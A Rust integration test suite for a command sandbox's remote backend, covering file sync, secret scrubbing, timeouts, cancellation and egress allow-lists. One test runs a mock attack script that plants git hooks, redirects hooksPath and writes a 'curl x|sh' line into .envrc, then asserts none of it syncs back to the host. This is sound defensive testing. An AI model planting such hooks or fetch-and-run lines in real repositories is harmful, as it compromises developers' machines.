#![allow(clippy::unwrap_used, clippy::expect_used)] // a test target may panic
//! End to end through `host::opensandbox::run` against the fake
//! OpenSandbox server (real HTTP on 127.0.0.1, real `sh` processes).
#![cfg(unix)]

use crate::common;
use common::{fake_opensandbox, opensandbox_env};

use codewhale::host::opensandbox::{self, OpenSandboxSession};
use codewhale::host::{BackendKind, EnforcementLevel, ExecRequest, ExitKind};
use codewhale::policy::SandboxMode;
use opensandbox_env::{sh, Env};
use std::collections::BTreeMap;
use std::fs;
use std::path::PathBuf;
use std::time::Duration;

#[tokio::test]
async fn workspace_write_exit_code_output_and_sync_back() {
    let env = Env::start(|_| {}).await;
    fs::write(env.ws.join("existing.txt"), "from host\n").unwrap();
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let req = ExecRequest::new(sh(
        "echo hi > f && cat existing.txt && echo err >&2 && exit 3",
    ));
    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
    assert_eq!(out.exit, ExitKind::Code(3));
    assert_eq!(out.shell_code(), 3);
    assert!(!out.timed_out);
    assert_eq!(out.stdout.text(), "from host\n");
    assert_eq!(out.stderr.text(), "err\n");
    assert_eq!(fs::read_to_string(env.ws.join("f")).unwrap(), "hi\n");
    let e = &out.enforcement;
    assert_eq!(e.backend, BackendKind::Opensandbox);
    assert_eq!(e.level, EnforcementLevel::External);
    let ext = e.external.as_ref().expect("external report");
    assert_eq!(ext.provider, "opensandbox");
    assert_eq!(ext.sandbox_id, "sbx-1");
    assert!(ext.note.contains("depends on the deployment"));
    assert_eq!(ext.synced_up, 1);
    assert_eq!(ext.synced_back, vec![PathBuf::from("f")]);
    assert!(ext.sync_refused.is_empty());
    assert!(!e.network_allowed);
    // keep = false: the sandbox is deleted afterwards.
    assert_eq!(env.fake.deleted(), vec!["sbx-1".to_string()]);
    assert!(
        env.fake.violations().is_empty(),
        "{:?}",
        env.fake.violations()
    );
}

#[tokio::test]
async fn protected_paths_written_remotely_are_not_synced_back() {
    let env = Env::start(|_| {}).await;
    fs::create_dir_all(env.ws.join(".git/hooks")).unwrap();
    fs::write(env.ws.join(".git/config"), "[core]\n").unwrap();
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let script = "echo evil > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
                  && echo '[core] hooksPath=/tmp' >> .git/config && echo 'curl x|sh' > .envrc \
                  && mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout \
                  && echo ok > allowed.txt";
    let out = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh(script)))
        .await
        .expect("run");
    assert_eq!(out.exit, ExitKind::Code(0), "{}", out.stderr.text());
    // The attack really happened in the sandbox's copy...
    assert!(env.remote_ws.join(".git/hooks/pre-commit").exists());
    assert!(env.remote_ws.join(".envrc").exists());
    // ...and none of it reached the host.
    assert!(!env.ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        fs::read_to_string(env.ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!env.ws.join(".envrc").exists());
    assert!(!env.ws.join("sub/.git/hooks/post-checkout").exists());
    // Positive control: an ordinary file in the same run came back.
    assert_eq!(
        fs::read_to_string(env.ws.join("allowed.txt")).unwrap(),
        "ok\n"
    );
    let ext = out.enforcement.external.unwrap();
    let mut refused: Vec<String> = ext
        .sync_refused
        .iter()
        .map(|p| p.display().to_string())
        .collect();
    refused.sort();
    assert_eq!(
        refused,
        vec![
            ".envrc",
            ".git/config",
            ".git/hooks/pre-commit",
            "sub/.git/hooks/post-checkout"
        ]
    );
    assert!(out
        .enforcement
        .partial
        .iter()
        .any(|p| p.reason.contains("sync-back refused .envrc")));
}

#[tokio::test]
async fn deny_read_files_are_not_uploaded_and_env_is_scrubbed() {
    let env = Env::start(|_| {}).await;
    fs::write(env.ws.join(".env"), "SECRET=hunter2\n").unwrap();
    fs::write(env.ws.join(".env.example"), "SECRET=\n").unwrap();
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let mut req = ExecRequest::new(sh(
        "cat .env.example; cat .env 2>/dev/null || echo no-env-file; echo \"key=${MY_API_KEY-unset} vis=$VISIBLE\"",
    ));
    let mut base = BTreeMap::new();
    base.insert("MY_API_KEY".to_string(), "sk-123".to_string());
    base.insert("VISIBLE".to_string(), "v".to_string());
    req.env = Some(base);
    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
    assert_eq!(out.stdout.text(), "SECRET=\nno-env-file\nkey=unset vis=v\n");
    assert!(!env.remote_ws.join(".env").exists());
    assert!(env.remote_ws.join(".env.example").exists());
    assert_eq!(out.enforcement.env_removed, vec!["MY_API_KEY".to_string()]);
    // The secret never crossed the wire.
    for req in env.fake.requests() {
        assert!(!format!("{:?}", req.body).contains("sk-123"));
    }
    // The local .env was left alone by the sync-back.
    assert_eq!(
        fs::read_to_string(env.ws.join(".env")).unwrap(),
        "SECRET=hunter2\n"
    );
}

#[tokio::test]
async fn timeout_interrupts_the_remote_command() {
    let env = Env::start(|_| {}).await;
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let mut req = ExecRequest::new(sh("echo $$ > pid; echo started; exec sleep 30"));
    req.timeout = Some(Duration::from_millis(800));
    let t0 = std::time::Instant::now();
    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
    assert!(out.timed_out);
    assert_eq!(out.shell_code(), 124);
    assert!(
        t0.elapsed() < Duration::from_secs(25),
        "the 30 s command was not cut short"
    );
    assert_eq!(out.stdout.text(), "started\n");
    let interrupted = env.fake.interrupted();
    assert_eq!(interrupted.len(), 1, "the fake saw DELETE /command?id=…");
    assert!(interrupted[0].starts_with("cmd-"));
    // The process really died (pid file came back through the sync).
    let pid: i32 = fs::read_to_string(env.ws.join("pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let mut alive = true;
    for _ in 0..50 {
        if nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_err() {
            alive = false;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(!alive, "remote sleep {pid} still running");
}

#[tokio::test]
async fn read_only_syncs_nothing_back() {
    let env = Env::start(|_| {}).await;
    fs::write(env.ws.join("existing.txt"), "orig\n").unwrap();
    let r = env.resolved(SandboxMode::ReadOnly);
    let out = opensandbox::run(
        &env.cfg,
        &r,
        ExecRequest::new(sh(
            "echo x > new.txt && echo changed > existing.txt && cat existing.txt",
        )),
    )
    .await
    .expect("run");
    assert_eq!(out.exit, ExitKind::Code(0));
    // Positive control: the remote copy did change.
    assert_eq!(out.stdout.text(), "changed\n");
    assert!(env.remote_ws.join("new.txt").exists());
    // The host did not.
    assert!(!env.ws.join("new.txt").exists());
    assert_eq!(
        fs::read_to_string(env.ws.join("existing.txt")).unwrap(),
        "orig\n"
    );
    let ext = out.enforcement.external.unwrap();
    assert!(ext.synced_back.is_empty());
    let reqs = env.fake.requests();
    assert!(!reqs.iter().any(|r| r.path == "/files/download"));
    let commands = reqs
        .iter()
        .filter(|r| r.path == "/command" && r.method == "POST")
        .count();
    assert_eq!(commands, 2, "unpack + the command; no manifest listing");
}

#[tokio::test]
async fn framing_variants_and_dropped_final_chunk() {
    // data: prefixes, a connection dropped without its final chunk, and a
    // close delay far longer than the test may take: the client must stop
    // at the terminal event.
    let env = Env::start(|o| {
        o.data_prefix = true;
        o.drop_final_chunk = true;
        o.close_delay = Duration::from_secs(60);
        o.ping_every = Duration::from_millis(50);
    })
    .await;
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let t0 = std::time::Instant::now();
    let out = opensandbox::run(
        &env.cfg,
        &r,
        ExecRequest::new(sh("echo a; sleep 0.3; echo b; exit 7")),
    )
    .await
    .expect("run");
    assert!(
        t0.elapsed() < Duration::from_secs(45),
        "waited for the close delay"
    );
    assert_eq!(out.exit, ExitKind::Code(7));
    assert_eq!(out.stdout.text(), "a\nb\n");
}

#[tokio::test]
async fn output_cap_truncates_with_marker() {
    let env = Env::start(|_| {}).await;
    let r = env.resolved(SandboxMode::ReadOnly);
    let mut req = ExecRequest::new(sh(
        "i=0; while [ $i -lt 200 ]; do echo 0123456789; i=$((i+1)); done",
    ));
    req.output_cap = 100;
    let out = opensandbox::run(&env.cfg, &r, req).await.expect("run");
    assert_eq!(out.stdout.bytes.len(), 100);
    assert_eq!(out.stdout.total, 2200);
    assert!(out.stdout.truncated);
    assert!(out.stdout.text().contains("output truncated"));
}

#[tokio::test]
async fn session_reuses_one_sandbox_and_recreates_a_vanished_one_once() {
    let env = Env::start(|_| {}).await;
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let mut s = OpenSandboxSession::open(&env.cfg, &r).await.expect("open");
    let a = s
        .exec(&r, ExecRequest::new(sh("echo one > state")))
        .await
        .unwrap();
    let b = s.exec(&r, ExecRequest::new(sh("cat state"))).await.unwrap();
    assert_eq!(b.stdout.text(), "one\n");
    assert_eq!(a.enforcement.external.unwrap().sandbox_id, "sbx-1");
    let uploads = |env: &Env| {
        env.fake
            .requests()
            .iter()
            .filter(|r| r.path == "/files/upload")
            .count()
    };
    assert_eq!(
        uploads(&env),
        1,
        "the workspace is uploaded once per sandbox"
    );
    let reqs = env.fake.requests();
    let renews = reqs
        .iter()
        .filter(|r| r.path.ends_with("/renew-expiration"))
        .count();
    // Before each command: a renewal, or — when a renewal would not
    // lengthen the sandbox's life (two commands in the same second) — a
    // GET that checks it is still there. Never a shortening renewal.
    let checks = reqs
        .iter()
        .filter(|r| r.method == "GET" && r.path == "/v1/sandboxes/sbx-1")
        .count();
    assert!(renews >= 1, "renewed before the first command");
    assert!(renews + checks >= 2, "{renews} renewals, {checks} checks");
    assert!(
        env.fake.violations().is_empty(),
        "{:?}",
        env.fake.violations()
    );
    // The deployment loses the sandbox: the next command recreates it once.
    env.fake.state.lock().sandboxes.clear();
    let c = s.exec(&r, ExecRequest::new(sh("cat state"))).await.unwrap();
    let ext = c.enforcement.external.as_ref().unwrap();
    assert_ne!(ext.sandbox_id, "sbx-1");
    assert_eq!(
        c.stdout.text(),
        "one\n",
        "state was synced back and uploaded again"
    );
    assert_eq!(uploads(&env), 2);
    assert!(c
        .enforcement
        .partial
        .iter()
        .any(|p| p.reason.contains("recreated")));
    s.close().await.unwrap();
    assert!(env.fake.live_sandboxes().is_empty());
}

#[tokio::test]
async fn keep_reuses_the_workspace_sandbox_across_runs() {
    let env = Env::start_with(|_| {}, "keep = true\n").await;
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    for _ in 0..2 {
        let out = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh("true")))
            .await
            .unwrap();
        assert_eq!(out.enforcement.external.unwrap().sandbox_id, "sbx-1");
    }
    let reqs = env.fake.requests();
    assert_eq!(
        reqs.iter()
            .filter(|r| r.method == "POST" && r.path == "/v1/sandboxes")
            .count(),
        1
    );
    let list = reqs
        .iter()
        .find(|r| r.method == "GET" && r.path == "/v1/sandboxes")
        .unwrap();
    assert!(
        list.query
            .starts_with("metadata=codewhale-network%3Doff%26codewhale-workspace%3D"),
        "{}",
        list.query
    );
    assert!(env.fake.deleted().is_empty());
    // A run with network on must not reuse the egress-denied sandbox.
    let mut policy = codewhale::policy::SandboxPolicy::new(SandboxMode::WorkspaceWrite, &env.ws);
    policy.network = true;
    let facts = codewhale::policy::HostFacts {
        homes: vec![env.tmp.path().join("home")],
        cargo_home: None,
        xdg_cache_home: None,
    };
    let r_net = codewhale::policy::resolve(&policy, &facts).unwrap();
    let out = opensandbox::run(&env.cfg, &r_net, ExecRequest::new(sh("true")))
        .await
        .unwrap();
    assert_ne!(out.enforcement.external.unwrap().sandbox_id, "sbx-1");
}

#[tokio::test]
async fn a_file_changed_on_both_sides_keeps_the_host_version() {
    let env = Env::start(|_| {}).await;
    fs::write(env.ws.join("c.txt"), "v1\n").unwrap();
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let (cfg, r2) = (env.cfg.clone(), r.clone());
    let task = tokio::spawn(async move {
        let script =
            "while [ ! -f go ]; do sleep 0.05; done; echo remote > c.txt; echo remote > d.txt";
        opensandbox::run(&cfg, &r2, ExecRequest::new(sh(script))).await
    });
    // Wait until the command runs remotely, edit the host copy, then let it go on.
    for _ in 0..200 {
        if env
            .fake
            .requests()
            .iter()
            .filter(|q| q.path == "/command")
            .count()
            >= 2
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    fs::write(env.ws.join("c.txt"), "host edit\n").unwrap();
    fs::write(env.remote_ws.join("go"), "").unwrap();
    let out = task.await.unwrap().expect("run");
    assert_eq!(
        fs::read_to_string(env.ws.join("c.txt")).unwrap(),
        "host edit\n"
    );
    // Positive control: the file only the remote changed came back.
    assert_eq!(
        fs::read_to_string(env.ws.join("d.txt")).unwrap(),
        "remote\n"
    );
    assert!(out.enforcement.partial.iter().any(|p| p
        .reason
        .contains("c.txt changed on the host during the command too")));
}

#[tokio::test]
async fn cancelling_the_run_interrupts_the_remote_command() {
    let env = Env::start(|_| {}).await;
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    // No request timeout: the caller gives up (as the CLI does on Ctrl-C)
    // by dropping the future once the command is running.
    // Boxed so that `drop(run)` really drops the future (a stack pin would
    // only drop the reference).
    let mut run = Box::pin(opensandbox::run(
        &env.cfg,
        &r,
        ExecRequest::new(sh("echo $$ > pid; exec sleep 30")),
    ));
    let mut started = false;
    for _ in 0..400 {
        tokio::select! {
            res = &mut run => panic!("finished early: {:?}", res.map(|o| o.exit)),
            _ = tokio::time::sleep(Duration::from_millis(25)) => {}
        }
        if env.remote_ws.join("pid").exists() {
            started = true;
            break;
        }
    }
    assert!(started, "the remote command never started");
    // Let the client read the `init` event (the command id) first: a run
    // dropped before that cannot be interrupted (documented).
    tokio::select! {
        res = &mut run => panic!("finished early: {:?}", res.map(|o| o.exit)),
        _ = tokio::time::sleep(Duration::from_millis(200)) => {}
    }
    drop(run);
    let mut seen = false;
    for _ in 0..200 {
        if !env.fake.interrupted().is_empty() {
            seen = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert!(
        seen,
        "no DELETE /command after the run was dropped: {:#?}",
        env.fake
            .requests()
            .iter()
            .map(|r| (r.method.clone(), r.path.clone(), r.query.clone()))
            .collect::<Vec<_>>()
    );
    let pid: i32 = fs::read_to_string(env.remote_ws.join("pid"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let mut alive = true;
    for _ in 0..100 {
        if nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_err() {
            alive = false;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(!alive, "remote sleep {pid} still running");
}

/// A kept sandbox that already lives longer than a renewal would make it
/// (created with a larger `timeout_s`): the lifecycle server would accept
/// a shorter expiry, so the client must not send one.
#[tokio::test]
async fn renewing_never_shortens_a_kept_sandbox_life() {
    let env = Env::start(|_| {}).await;
    let r = env.resolved(SandboxMode::WorkspaceWrite);
    let mut cfg = env.cfg.clone();
    cfg.keep = true;
    let s = OpenSandboxSession::open(&cfg, &r).await.expect("open");
    let id = s.sandbox_id().to_string();
    drop(s);
    // Its expiry is a day away; this config's TTL is an hour.
    let far = time::OffsetDateTime::now_utc() + time::Duration::days(1);
    env.fake
        .state
        .lock()
        .sandboxes
        .get_mut(&id)
        .unwrap()
        .expires_at = Some(far);
    cfg.timeout_s = Some(3600);
    let mut s = OpenSandboxSession::open(&cfg, &r).await.expect("reopen");
    assert_eq!(s.sandbox_id(), id, "the kept sandbox was reused");
    let out = s.exec(&r, ExecRequest::new(sh("echo ok"))).await.unwrap();
    assert_eq!(out.stdout.text(), "ok\n");
    assert!(
        env.fake.violations().is_empty(),
        "{:?}",
        env.fake.violations()
    );
    assert_eq!(
        env.fake.state.lock().sandboxes[&id].expires_at,
        Some(far),
        "the expiry moved"
    );
    // Control: the fake does record a shortening renewal.
    let lc = reqwest::Client::new();
    let resp = lc
        .post(format!(
            "{}/v1/sandboxes/{id}/renew-expiration",
            env.fake.lifecycle_url
        ))
        .header("OPEN-SANDBOX-API-KEY", fake_opensandbox::API_KEY)
        .json(
            &serde_json::json!({"expiresAt": codewhale::host::opensandbox::lifecycle::rfc3339(
            time::OffsetDateTime::now_utc() + time::Duration::hours(1))}),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert_eq!(
        env.fake.violations().len(),
        1,
        "{:?}",
        env.fake.violations()
    );
    let s2 = s;
    s2.close().await.ok();
}

/// The request's cancel token ends a remote command through the public
/// dispatcher (`host::run`), as it does for the local backends: the run
/// returns `Cancelled` promptly and the remote command is interrupted
/// (`DELETE /command`, which the fake answers by killing its process group,
/// as execd does) — positive control: the command was running before.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_cancel_token_interrupts_a_remote_command() {
    use codewhale::host::{BackendChoice, CancelToken, HostError, HostSettings};
    use codewhale::policy::SandboxPolicy;
    let env = Env::start(|_| {}).await;
    let settings = HostSettings {
        backend: BackendChoice::Opensandbox,
        opensandbox: Some(env.cfg.clone()),
        ..HostSettings::default()
    };
    let policy = SandboxPolicy::new(SandboxMode::WorkspaceWrite, &env.ws);
    let token = CancelToken::new();
    let mut req = ExecRequest::new(sh("touch started && sleep 30"));
    req.cancel = Some(token.clone());
    let run = tokio::spawn(async move { codewhale::host::run(&policy, &settings, req).await });
    let started = env.remote_ws.join("started");
    let mut waited = 0;
    while !started.exists() && waited < 500 {
        tokio::time::sleep(Duration::from_millis(20)).await;
        waited += 1;
    }
    assert!(
        started.exists(),
        "control: the remote command never started"
    );
    let t = std::time::Instant::now();
    token.cancel();
    let out = run.await.unwrap();
    assert!(
        t.elapsed() < Duration::from_secs(1),
        "took {:?}",
        t.elapsed()
    );
    assert!(matches!(out, Err(HostError::Cancelled)), "{out:?}");
    let mut waited = 0;
    while env.fake.interrupted().is_empty() && waited < 250 {
        tokio::time::sleep(Duration::from_millis(20)).await;
        waited += 1;
    }
    assert!(
        !env.fake.interrupted().is_empty(),
        "the remote command was not interrupted"
    );
}

/// `network = "allowlist"`: the lists become the egress sidecar's
/// `networkPolicy` at creation (deny rules first, default deny), a kept
/// sandbox is reused only for the same list, and the report says what the
/// sidecar does not check.
#[tokio::test]
async fn an_allowlist_becomes_the_sidecar_network_policy() {
    let env = Env::start_with(|_| {}, "keep = true\n").await;
    let facts = codewhale::policy::HostFacts {
        homes: vec![env.tmp.path().join("home")],
        cargo_home: None,
        xdg_cache_home: None,
    };
    let with_list = |allow: &[&str], deny: &[&str]| {
        let mut policy =
            codewhale::policy::SandboxPolicy::new(SandboxMode::WorkspaceWrite, &env.ws);
        policy.egress = Some(codewhale::net::EgressSpec::new(
            allow.iter().map(|s| s.to_string()).collect(),
            deny.iter().map(|s| s.to_string()).collect(),
        ));
        codewhale::policy::resolve(&policy, &facts).unwrap()
    };
    let r = with_list(
        &["pypi.org", "*.crates.io", "10.1.2.3"],
        &["static.crates.io"],
    );
    let out = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh("true")))
        .await
        .unwrap();
    let first = out.enforcement.external.clone().unwrap().sandbox_id;
    let creates: Vec<_> = env
        .fake
        .requests()
        .into_iter()
        .filter(|q| q.method == "POST" && q.path == "/v1/sandboxes")
        .collect();
    assert_eq!(creates.len(), 1);
    let body = creates[0].body.clone().unwrap();
    assert_eq!(
        body["networkPolicy"],
        serde_json::json!({
            "defaultAction": "deny",
            "egress": [
                {"action": "deny", "target": "static.crates.io"},
                {"action": "allow", "target": "pypi.org"},
                {"action": "allow", "target": "*.crates.io"},
            ]
        })
    );
    let label = body["metadata"]["codewhale-network"].as_str().unwrap();
    assert!(label.starts_with("allowlist-"), "{label}");
    let partial: Vec<&str> = out
        .enforcement
        .partial
        .iter()
        .map(|p| p.reason.as_str())
        .collect();
    assert!(
        partial.iter().any(|p| p.contains("egress sidecar")),
        "{partial:?}"
    );
    assert!(
        partial.iter().any(|p| p.contains("IP literal")),
        "{partial:?}"
    );
    assert!(!out.enforcement.network_allowed);

    // The same list reuses the kept sandbox; another list does not.
    let again = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh("true")))
        .await
        .unwrap();
    assert_eq!(again.enforcement.external.unwrap().sandbox_id, first);
    let other = with_list(&["github.com"], &[]);
    let out = opensandbox::run(&env.cfg, &other, ExecRequest::new(sh("true")))
        .await
        .unwrap();
    assert_ne!(out.enforcement.external.unwrap().sandbox_id, first);
}

/// Runs `allow`/`deny` as `network = "allowlist"` in `env`, returning the
/// outcome and the reasons of its `network` partial items.
async fn allowlist_run(
    env: &Env,
    allow: &[&str],
    deny: &[&str],
) -> (codewhale::host::ExecOutcome, Vec<String>) {
    let facts = codewhale::policy::HostFacts {
        homes: vec![env.tmp.path().join("home")],
        cargo_home: None,
        xdg_cache_home: None,
    };
    let mut policy = codewhale::policy::SandboxPolicy::new(SandboxMode::WorkspaceWrite, &env.ws);
    policy.egress = Some(codewhale::net::EgressSpec::new(
        allow.iter().map(|s| s.to_string()).collect(),
        deny.iter().map(|s| s.to_string()).collect(),
    ));
    let r = codewhale::policy::resolve(&policy, &facts).unwrap();
    let out = opensandbox::run(&env.cfg, &r, ExecRequest::new(sh("true")))
        .await
        .unwrap();
    let network = out
        .enforcement
        .partial
        .iter()
        .filter(|p| p.item == codewhale::host::enforcement::Shortfall::Network)
        .map(|p| p.reason.clone())
        .collect();
    (out, network)
}

fn egress_calls(env: &Env) -> Vec<fake_opensandbox::Recorded> {
    env.fake
        .requests()
        .into_iter()
        .filter(|q| q.server == "egress" || q.path.ends_with("/endpoints/18080"))
        .collect()
}

/// The allow-list is applied through the egress sidecar's own API
/// (`egress-api.yaml`): the endpoint for port 18080, `PATCH /policy` with
/// the rules (deny first), `GET /policy` to read back what it enforces,
/// with the endpoint's headers (the sidecar's auth) and neither the
/// lifecycle key nor the execd token. Accepted in `dns+nft` mode with no
/// wildcard, port or IP entry, the run's `network` items are only the one
/// every allow-list has (as on the local tiers): the list itself is no
/// longer `partial`.
#[tokio::test]
async fn the_sidecar_accepting_the_list_ends_the_partial_network_report() {
    use fake_opensandbox::egress::{EgressBehaviour, EGRESS_TOKEN};
    let env = Env::start_with(
        |o| {
            o.egress = EgressBehaviour::Works {
                enforcement_mode: "dns+nft".into(),
            }
        },
        "",
    )
    .await;
    let (out, network) = allowlist_run(&env, &["pypi.org"], &["evil.example"]).await;
    let calls = egress_calls(&env);
    let seq: Vec<(String, String)> = calls
        .iter()
        .map(|q| (q.method.clone(), q.path.clone()))
        .collect();
    let id = out.enforcement.external.clone().unwrap().sandbox_id;
    assert_eq!(
        seq,
        [
            (
                "GET".to_string(),
                format!("/v1/sandboxes/{id}/endpoints/18080")
            ),
            ("PATCH".into(), "/policy".into()),
            ("GET".into(), "/policy".into()),
        ]
    );
    assert_eq!(
        calls[1].body,
        Some(serde_json::json!([
            {"action": "deny", "target": "evil.example"},
            {"action": "allow", "target": "pypi.org"},
        ]))
    );
    for q in calls.iter().filter(|q| q.server == "egress") {
        assert_eq!(
            q.headers.get("opensandbox-egress-auth").map(String::as_str),
            Some(EGRESS_TOKEN)
        );
    }
    assert!(
        env.fake.violations().is_empty(),
        "{:?}",
        env.fake.violations()
    );
    assert_eq!(
        network,
        ["allowed hosts can receive whatever the command sends them (no byte cap, no per-connection events on OpenSandbox; the addresses allowed names resolve to are the sidecar's to judge)"],
        "only the line every allow-list has"
    );

    // The same list with a wildcard: the sidecar does not do the proxy's
    // DoH / tunnel checks under it, which is said.
    let (_, network) = allowlist_run(&env, &["*.crates.io"], &[]).await;
    assert!(
        network.iter().any(|l| l.contains("wildcard entry")),
        "{network:?}"
    );
}

/// What the sidecar did not accept keeps the run `partial`, with the
/// reason: no sidecar endpoint, a PATCH it failed to apply (500), or a
/// read-back without the list's rule (a sidecar that lost a rule and
/// ignores the PATCH). In `dns` mode the IP-literal gap is named. A kept
/// sandbox whose sidecar allows more than the list is trimmed with
/// `DELETE /policy`, then accepted.
#[tokio::test]
async fn what_the_sidecar_did_not_accept_stays_partial_with_the_reason() {
    use fake_opensandbox::egress::EgressBehaviour;
    let cases = [
        (EgressBehaviour::Absent, "no egress sidecar endpoint"),
        (
            EgressBehaviour::PatchFails,
            "PATCH /policy (egress sidecar)",
        ),
    ];
    for (behaviour, needle) in cases {
        let env = Env::start_with(|o| o.egress = behaviour.clone(), "").await;
        let (_, network) = allowlist_run(&env, &["pypi.org"], &[]).await;
        assert!(
            network
                .iter()
                .any(|l| l.contains("did not confirm the allow-list") && l.contains(needle)),
            "{behaviour:?}: {network:?}"
        );
    }

    // `dns` mode (the spec's example): accepted, with the IP-literal gap.
    let env = Env::start_with(|_| {}, "").await;
    let (_, network) = allowlist_run(&env, &["pypi.org"], &[]).await;
    assert!(
        network
            .iter()
            .any(|l| l.contains("`dns` mode: a direct connect to an IP literal is not refused")),
        "{network:?}"
    );
    assert!(!network.iter().any(|l| l.contains("did not confirm")));

    // A kept sandbox whose sidecar lost the list's rule and ignores PATCH.
    let env = Env::start_with(
        |o| o.egress = EgressBehaviour::IgnoresPatch,
        "keep = true\n",
    )
    .await;
    let (out, _) = allowlist_run(&env, &["pypi.org"], &[]).await;
    let id = out.enforcement.external.unwrap().sandbox_id;
    env.fake.state.lock().egress_policies.insert(
        id.clone(),
        serde_json::json!({"defaultAction": "deny", "egress": []}),
    );
    let (again, network) = allowlist_run(&env, &["pypi.org"], &[]).await;
    assert_eq!(again.enforcement.external.unwrap().sandbox_id, id);
    assert!(
        network.iter().any(|l| l.contains("no rule for pypi.org")),
        "{network:?}"
    );

    // A kept sandbox whose sidecar allows one more name: DELETE, accepted.
    let env = Env::start_with(
        |o| {
            o.egress = EgressBehaviour::Works {
                enforcement_mode: "dns+nft".into(),
            }
        },
        "keep = true\n",
    )
    .await;
    let (out, _) = allowlist_run(&env, &["pypi.org"], &[]).await;
    let id = out.enforcement.external.unwrap().sandbox_id;
    env.fake.state.lock().egress_policies.insert(
        id.clone(),
        serde_json::json!({"defaultAction": "deny", "egress": [
            {"action": "allow", "target": "pypi.org"},
            {"action": "allow", "target": "extra.example"},
        ]}),
    );
    let (_, network) = allowlist_run(&env, &["pypi.org"], &[]).await;
    let deletes: Vec<_> = egress_calls(&env)
        .into_iter()
        .filter(|q| q.method == "DELETE")
        .collect();
    assert_eq!(deletes.len(), 1);
    assert_eq!(deletes[0].body, Some(serde_json::json!(["extra.example"])));
    assert_eq!(network.len(), 1, "accepted after the DELETE: {network:?}");
    assert_eq!(
        env.fake.egress_policy(&id).unwrap()["egress"],
        serde_json::json!([{"action": "allow", "target": "pypi.org"}])
    );
}
